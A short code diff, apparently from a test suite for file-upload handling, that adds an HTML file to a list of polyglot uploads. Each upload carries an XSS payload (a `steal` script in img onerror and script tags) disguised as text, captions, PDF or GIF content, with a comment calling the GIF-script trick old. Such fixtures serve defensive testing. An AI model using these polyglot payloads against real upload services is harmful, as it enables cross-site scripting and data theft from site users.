@@ -11,6 +11,7 @@ const payload = `${steal}//<html><body><img src=x onerror="${steal}"><script>${s
 /** Begins as its type wants, so that it is taken. A GIF that is a script as well is an old trick. */
 const uploads = [
   { type: 'text/plain', name: 'notes.txt', bytes: payload, isSaved: true },
+  { type: 'text/x-source', name: 'index.html', bytes: payload, isSaved: true },
   { type: 'text/vtt', name: 'captions.vtt', bytes: `WEBVTT\n\n${payload}`, isSaved: true },
   { type: 'application/pdf', name: 'paper.pdf', bytes: `${payload}\n%PDF-1.7`, isSaved: true },
   { type: 'image/gif', name: 'me.gif', bytes: `GIF89a=1;${payload}`, isSaved: false },
